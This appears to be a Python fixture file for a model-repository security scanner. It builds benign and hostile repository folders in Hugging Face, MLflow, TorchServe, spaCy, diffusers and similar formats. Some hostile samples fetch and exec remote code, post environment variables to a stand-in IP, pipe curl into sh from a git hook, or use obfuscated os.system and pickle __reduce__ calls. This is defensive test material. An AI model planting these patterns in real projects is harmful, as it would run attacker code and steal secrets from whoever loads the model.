"""Repository folders, hostile and benign, in the shapes of the hub, MLflow, TorchServe, spaCy, NeMo and diffusers."""

from __future__ import annotations

import json
import struct
from collections.abc import Mapping
from typing import Any

from stannary.testing.forges import forge

__all__: list[str] = []

_ECHO = "import os\nos.system('echo stannary')\n"
_MODELING = """
import math
import os
from typing import Optional

import torch
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging

from .configuration_x import XConfig

logger = logging.get_logger(__name__)
_DEBUG = os.environ.get("X_DEBUG", "0") == "1"


class XAttention(nn.Module):
    def __init__(self, config: XConfig):
        super().__init__()
        self.scale = 1 / math.sqrt(config.head_dim)
        self.q = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, hidden: torch.Tensor, mask: Optional[torch.Tensor] = None):
        weights = torch.softmax(self.q(hidden) * self.scale, dim=-1)
        return weights if mask is None else weights + mask


class XModel(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([XAttention(config) for _ in range(config.num_layers)])
        self.post_init()

    def forward(self, x):
        for layer in self.layers:
            x = layer(x)
        return x
""".lstrip()
_CONFIGURATION = "from transformers import PretrainedConfig\n\n\nclass XConfig(PretrainedConfig):\n    model_type = 'x'\n\n    def __init__(self, hidden_size=8, head_dim=8, num_layers=1, **kwargs):\n        self.hidden_size = hidden_size\n        self.head_dim = head_dim\n        self.num_layers = num_layers\n        super().__init__(**kwargs)\n"
_CARD = "---\nlicense: apache-2.0\nlibrary_name: transformers\npipeline_tag: text-generation\n---\n# X\n\nA model.\n"
_LFS = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "ab" * 32 + "\nsize 1234567\n"


def _safetensors() -> bytes:
    header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    return struct.pack("<Q", len(header)) + header + bytes(8)


def _tree(name: str, files: Mapping[str, Any], *, family: str = "repo dirs", malicious: bool | None = True) -> None:
    built = {path: content if isinstance(content, bytes) else content.encode() if isinstance(content, str) else json.dumps(content, indent=2).encode() for path, content in files.items()}
    forge(f"repo.{name}", filename=name, family=family, malicious=malicious)(lambda: built)


_HF: dict[str, Any] = {
    "config.json": {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8},
    "tokenizer_config.json": {"tokenizer_class": "BertTokenizer", "model_max_length": 512},
    "special_tokens_map.json": {"cls_token": "[CLS]"},
    "vocab.txt": "[PAD]\n[CLS]\nhello\n",
    "model.safetensors": _safetensors(),
    "README.md": _CARD,
    ".gitattributes": "*.safetensors filter=lfs diff=lfs merge=lfs -text\n",
}
_CUSTOM = {**_HF, "config.json": {"auto_map": {"AutoConfig": "configuration_x.XConfig", "AutoModel": "modeling_x.XModel"}, "model_type": "x"},
           "configuration_x.py": _CONFIGURATION, "modeling_x.py": _MODELING}  # fmt: skip

# Code that loading runs

_tree("auto_map_system", {**_CUSTOM, "modeling_x.py": _ECHO + _MODELING})
_tree("auto_map_indirect", {**_CUSTOM, "configuration_x.py": "from . import helper\n" + _CONFIGURATION, "helper.py": "import subprocess\nsubprocess.run('echo stannary', shell=True)\n"})
_tree("auto_map_in_init", {**_CUSTOM, "modeling_x.py": _MODELING.replace("self.post_init()", "os.popen('echo stannary').read()")})
_tree("auto_map_hidden_call", {**_CUSTOM, "modeling_x.py": _MODELING + "\ngetattr(__import__('o' + 's'), 'sys' + 'tem')('echo stannary')\n"})
_tree("auto_map_network", {**_CUSTOM, "modeling_x.py": "import requests\nexec(requests.get('http://203.0.113.9/x').text)\n" + _MODELING})
_tree("auto_map_environment", {**_CUSTOM, "modeling_x.py": "import requests\nrequests.post('http://203.0.113.9/x', data=str(dict(__import__('os').environ)))\n" + _MODELING})
_tree("auto_map_remote", {**_HF, "config.json": {"auto_map": {"AutoModel": "someone/else--modeling_x.XModel"}, "model_type": "x"}})
_tree("tokenizer_auto_map", {**_HF, "tokenizer_config.json": {"auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", None]}}, "tokenization_x.py": _ECHO + "class XTokenizer: pass\n"})
_tree("processor_auto_map", {**_HF, "preprocessor_config.json": {"auto_map": {"AutoImageProcessor": "processing_x.X"}}, "processing_x.py": _ECHO})
_tree("custom_pipeline_impl", {**_HF, "config.json": {"custom_pipelines": {"text": {"impl": "my_pipe.Pipe", "pt": ["AutoModel"]}}, "model_type": "bert"}, "my_pipe.py": _ECHO + "class Pipe: pass\n"})
_tree("nested_auto_map", {**_HF, "config.json": {"model_type": "x", "vision_config": {"auto_map": {"AutoModel": "vision_x.V"}}}, "vision_x.py": _ECHO})
_tree("custom_generate", {**_HF, "custom_generate/generate.py": _ECHO + "def generate(model, **kw): pass\n"})
_tree("handler", {**_HF, "handler.py": _ECHO + "class EndpointHandler:\n    def __init__(self, path=''):\n        pass\n"})
_tree("handler_in_init", {**_HF, "handler.py": "import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('echo stannary')\n"})
_tree("cached_bytecode", {**_CUSTOM, "__pycache__/modeling_x.cpython-311.pyc": b"\xa7\r\r\n" + (1).to_bytes(4, "little") + bytes(8) + b"N"})
_tree("only_bytecode", {**{k: v for k, v in _CUSTOM.items() if k != "modeling_x.py"}, "modeling_x.pyc": b"\xa7\r\r\n" + bytes(12) + b"N"})
_tree("adapter_library", {"adapter_config.json": {"peft_type": "LORA", "auto_mapping": {"base_model_class": "Model", "parent_library": "evil_package.loader"}, "base_model_name_or_path": "x"}, "adapter_model.safetensors": _safetensors(), "README.md": _CARD})
_tree("st_modules_system", {"modules.json": [{"idx": 0, "name": "0", "path": "", "type": "os.system"}], "config_sentence_transformers.json": {"__version__": {}}, "README.md": _CARD})
_tree("st_modules_local", {"modules.json": [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}], "custom_st.py": _ECHO + "class Transformer: pass\n", "README.md": _CARD})
_tree("st_modules_foreign", {"modules.json": [{"idx": 0, "name": "0", "path": "", "type": "evil_package.Module"}], "README.md": _CARD})
_tree("diffusers_pipeline", {"model_index.json": {"_class_name": ["pipeline", "MyPipeline"], "_diffusers_version": "0.30.0"}, "pipeline.py": _ECHO + "class MyPipeline: pass\n", "README.md": _CARD})
_tree("diffusers_component", {"model_index.json": {"_class_name": "StableDiffusionPipeline", "unet": ["my_unet", "UNet"]}, "unet/my_unet.py": _ECHO, "README.md": _CARD})
_tree("diffusers_module", {"model_index.json": {"_class_name": "StableDiffusionPipeline", "unet": ["subprocess", "Popen"]}, "README.md": _CARD})
_tree("mlflow_loader", {"MLmodel": "flavors:\n  python_function:\n    code: code\n    loader_module: my_loader\n", "code/my_loader.py": _ECHO + "def _load_pyfunc(path): pass\n"})
_tree("mlflow_code_model", {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: /home/u/model.py\n", "model.py": _ECHO + "import mlflow\nmlflow.models.set_model(object())\n"})
_tree("mlflow_subprocess", {"MLmodel": "flavors:\n  python_function:\n    loader_module: subprocess\n"})
_tree("mlflow_outside", {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: ../../../etc\n    code: ../../outside\n"})
_tree("torchserve", {"MAR-INF/MANIFEST.json": {"runtime": "python", "model": {"modelName": "x", "handler": "handler_x.py", "serializedFile": "model.pt"}}, "handler_x.py": _ECHO + "def handle(d, c): pass\n"})
_tree("spacy_code", {"config.cfg": '[nlp]\nlang = "en"\npipeline = ["x"]\n\n[components.x]\nfactory = "x"\n\n[nlp.before_creation]\n@callbacks = "hook.v1"\n', "meta.json": {"lang": "en", "name": "x"}, "functions.py": _ECHO})
_tree("hubconf", {"hubconf.py": "dependencies = ['torch']\n" + _ECHO + "def model(): pass\n"})
_tree("triton", {"config.pbtxt": 'name: "m"\nbackend: "python"\n', "1/model.py": _ECHO + "class TritonPythonModel: pass\n"})
_tree("cog", {"cog.yaml": "predict: 'predict.py:Predictor'\n", "predict.py": _ECHO + "class Predictor: pass\n"})
_tree("startup_module", {**_HF, "sitecustomize.py": "print('x')\n"})
_tree("path_file", {**_HF, "x.pth": "import os; os.system('echo stannary')\n"})
_tree("git_hook", {**_HF, ".git/hooks/post-checkout": "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"})
_tree("shard_outside", {**_HF, "model.safetensors.index.json": {"weight_map": {"w": "../../secret.safetensors"}}})
_tree("shard_url", {**_HF, "pytorch_model.bin.index.json": {"weight_map": {"w": "https://203.0.113.9/pytorch_model.bin"}}})
_tree("reduce_in_modeling", {**_CUSTOM, "modeling_x.py": _MODELING + "\nclass P:\n    def __reduce__(self):\n        return (os.system, ('echo stannary',))\n"})
_tree("lfs_pointer", {**{k: v for k, v in _HF.items() if k != "model.safetensors"}, "pytorch_model.bin": _LFS}, malicious=None)

# Benign

_tree("hf_plain", _HF, malicious=False)
_tree("hf_sharded", {**{k: v for k, v in _HF.items() if k != "model.safetensors"}, "model-00001-of-00002.safetensors": _safetensors(), "model-00002-of-00002.safetensors": _safetensors(),
                     "model.safetensors.index.json": {"metadata": {"total_size": 16}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}}, "generation_config.json": {"bos_token_id": 1}}, malicious=False)  # fmt: skip
_tree("hf_chat", {**_HF, "tokenizer_config.json": {"chat_template": "{% for m in messages %}{{ m['role'] + ': ' + m['content'] }}{% endfor %}"}}, malicious=False)
_tree("hf_vision", {**_HF, "preprocessor_config.json": {"do_resize": True, "image_processor_type": "ViTImageProcessor", "size": {"height": 224, "width": 224}}}, malicious=False)
_tree("hf_llama", {**_HF, "config.json": {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "rope_scaling": None}, "LICENSE": "LLAMA 3.1 COMMUNITY LICENSE AGREEMENT\n", "README.md": "---\nlicense: llama3.1\n---\n", "USE_POLICY.md": "# Use policy\n"}, malicious=False)
_tree("hf_lora", {"adapter_config.json": {"peft_type": "LORA", "auto_mapping": None, "base_model_name_or_path": "org/base", "r": 8, "target_modules": ["q_proj"]}, "adapter_model.safetensors": _safetensors(), "README.md": "---\nbase_model: org/base\nlibrary_name: peft\nlicense: mit\n---\n"}, malicious=False)
_tree("hf_peft_auto", {"adapter_config.json": {"peft_type": "LORA", "auto_mapping": {"base_model_class": "BertModel", "parent_library": "transformers.models.bert.modeling_bert"}}, "README.md": _CARD}, malicious=False)
_tree("hf_training_output", {**_HF, "trainer_state.json": {"best_metric": None, "log_history": [{"epoch": 1.0, "loss": 0.5}]}, "all_results.json": {"eval_loss": 0.4}, "runs/events.txt": "x\n"}, malicious=False)
_tree("hf_gguf_card", {"README.md": "---\nlicense: gemma\n---\n# X-GGUF\n\n```\nollama run hf.co/org/x\nhuggingface-cli download org/x --local-dir .\n```\n"}, malicious=False)
_tree("hf_timm", {"config.json": {"architecture": "resnet50", "num_classes": 1000, "pretrained_cfg": {"url": "", "mean": [0.5], "custom_load": False}}, "README.md": _CARD, "model.safetensors": _safetensors()}, malicious=False)
_tree("hf_dataset", {"README.md": "---\nlicense: cc-by-4.0\nconfigs:\n- config_name: default\n  data_files: data/*.csv\n---\n", "data/train.csv": "text,label\nhello,1\n"}, malicious=False)
_tree("sentence_transformer", {
    **_HF, "modules.json": [{"idx": i, "name": str(i), "path": p, "type": f"sentence_transformers.models.{t}"} for i, (p, t) in enumerate((("", "Transformer"), ("1_Pooling", "Pooling"), ("2_Normalize", "Normalize")))],
    "config_sentence_transformers.json": {"__version__": {"sentence_transformers": "3.0.1"}, "prompts": {"query": "query: "}, "similarity_fn_name": "cosine"}, "sentence_bert_config.json": {"max_seq_length": 512}, "1_Pooling/config.json": {"word_embedding_dimension": 8},
}, malicious=False)  # fmt: skip
_tree("diffusers_plain", {
    "model_index.json": {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "feature_extractor": ["transformers", "CLIPImageProcessor"], "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
                         "scheduler": ["diffusers", "PNDMScheduler"], "text_encoder": ["transformers", "CLIPTextModel"], "unet": ["diffusers", "UNet2DConditionModel"], "image_encoder": [None, None], "force_zeros_for_empty_prompt": True},
    "unet/config.json": {"_class_name": "UNet2DConditionModel", "sample_size": 64}, "scheduler/scheduler_config.json": {"_class_name": "PNDMScheduler"}, "text_encoder/config.json": {"architectures": ["CLIPTextModel"]},
    "README.md": "---\nlicense: creativeml-openrail-m\n---\n",
}, malicious=False)  # fmt: skip
_MLFLOW_ENV = {"conda.yaml": "channels:\n- conda-forge\ndependencies:\n- python=3.11.4\n- pip<=23.2\n- pip:\n  - mlflow==2.9.2\n  - cloudpickle==3.0.0\nname: mlflow-env\n", "python_env.yaml": "python: 3.11.4\nbuild_dependencies:\n- pip==23.2\n- setuptools\ndependencies:\n- -r requirements.txt\n", "requirements.txt": "mlflow==2.9.2\nscikit-learn==1.4.0\n"}
_tree("mlflow_sklearn", {**_MLFLOW_ENV, "MLmodel": "artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: 3.11.4\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.4.0\nmlflow_version: 2.9.2\nrun_id: 0123456789abcdef0123456789abcdef\n"}, malicious=False)
_tree("mlflow_pyfunc", {**_MLFLOW_ENV, "MLmodel": "flavors:\n  python_function:\n    cloudpickle_version: 3.0.0\n    env:\n      conda: conda.yaml\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    python_version: 3.11.4\nmlflow_version: 2.9.2\n"}, malicious=False)
_tree("mlflow_pytorch", {**_MLFLOW_ENV, "MLmodel": "flavors:\n  python_function:\n    data: data\n    loader_module: mlflow.pytorch\n    pickle_module_name: mlflow.pytorch.pickle_module\n  pytorch:\n    code: null\n    model_data: data\n    pytorch_version: 2.3.1\n", "data/pickle_module_info.txt": "mlflow.pytorch.pickle_module"}, malicious=False)
_tree("mlflow_project", {"MLproject": "name: tutorial\nconda_env: conda.yaml\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, default: 0.1}\n    command: \"python train.py {alpha}\"\n", "train.py": "import sys\nprint(float(sys.argv[1]))\n", "conda.yaml": _MLFLOW_ENV["conda.yaml"]}, malicious=False)
_tree("spacy_plain", {"config.cfg": '[nlp]\nlang = "en"\npipeline = ["tok2vec","tagger"]\nbefore_creation = null\n\n[nlp.tokenizer]\n@tokenizers = "spacy.Tokenizer.v1"\n\n[components.tagger.model]\n@architectures = "spacy.Tagger.v2"\n\n[training.batcher]\n@batchers = "spacy.batch_by_words.v1"\n', "meta.json": {"lang": "en", "name": "core_web_sm", "license": "MIT", "requirements": []}, "tokenizer": b"\x81\xadprefix_search\xa1a", "vocab/strings.json": ["hello"], "README.md": _CARD}, malicious=False)
_tree("nemo_plain", {"model_config.yaml": "target: nemo.collections.asr.models.EncDecCTCModel\nnemo_version: 1.23.0\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\nencoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n"}, malicious=False)
_tree("torchserve_plain", {"MAR-INF/MANIFEST.json": {"runtime": "python", "model": {"modelName": "densenet", "serializedFile": "model.pt", "handler": "image_classifier", "modelVersion": "1.0"}, "archiverVersion": "0.12.0"}, "index_to_name.json": {"0": ["n01440764", "tench"]}}, malicious=False)
_tree("hydra_project", {"configs/train.yaml": "defaults:\n- _self_\n- model: linear\ntrainer:\n  _target_: pytorch_lightning.Trainer\n  callbacks:\n  - _target_: pytorch_lightning.callbacks.ModelCheckpoint\n    monitor: val_loss\n", "src/train.py": "import hydra\n\n\n@hydra.main(config_path='../configs', config_name='train')\ndef main(cfg):\n    trainer = hydra.utils.instantiate(cfg.trainer)\n    trainer.fit()\n\n\nif __name__ == '__main__':\n    main()\n", "requirements.txt": "torch>=2.0\nhydra-core==1.3.2\n", "LICENSE": "MIT License\n\nPermission is hereby granted, free of charge, to any person obtaining a copy\n"}, malicious=False)
_tree("python_package", {"pyproject.toml": '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "x"\nversion = "1"\ndependencies = ["numpy>=1.24", "torch"]\n', "setup.py": "from setuptools import setup\nsetup()\n", "src/x/__init__.py": "from x.core import run\n", "src/x/core.py": "import subprocess\n\n\ndef run(path):\n    return subprocess.run(['ffmpeg', '-i', path, 'out.wav'], check=True)\n", "Makefile": "test:\n\tpytest -q\n", "README.md": "# x\n\n    pip install x\n"}, malicious=False)
_tree("space_gradio", {"README.md": "---\ntitle: X\nsdk: gradio\nlicense: mit\n---\n", "app.py": "import os\nimport gradio as gr\nfrom transformers import pipeline\n\nos.system('pip install -q flash-attn')\npipe = pipeline('text-generation', model='org/x', token=os.getenv('HF_TOKEN'))\ngr.Interface(lambda t: pipe(t), 'text', 'text').launch()\n", "requirements.txt": "transformers\ngradio\n"}, malicious=False)
_tree("notebook_project", {"train.ipynb": {"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": 1, "source": ["!pip install -q torch\n", "import torch\n"]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, "dvc.yaml": "stages:\n  prep:\n    cmd: python prep.py\n", "params.yaml": "lr: 0.1\n"}, malicious=False)
_tree("lightning_checkpoint", {"hparams.yaml": "lr: 0.001\nbatch_size: 32\nlayers: !!python/tuple\n- 1\n- 2\n", "config.yaml": "seed_everything: 42\nmodel:\n  class_path: torch.nn.Linear\n  init_args:\n    in_features: 2\n"}, malicious=False)
_tree("bert_with_pickle", {**_HF, "pytorch_model.bin.index.json": {"weight_map": {}}}, malicious=False)
_tree("git_clone", {**_HF, ".git/HEAD": "ref: refs/heads/main\n", ".git/hooks/pre-push": "#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || exit 2\ngit lfs pre-push \"$@\"\n", ".git/hooks/pre-commit.sample": "#!/bin/sh\nexit 0\n"}, malicious=False)
_tree("custom_code_plain", _CUSTOM, malicious=False)
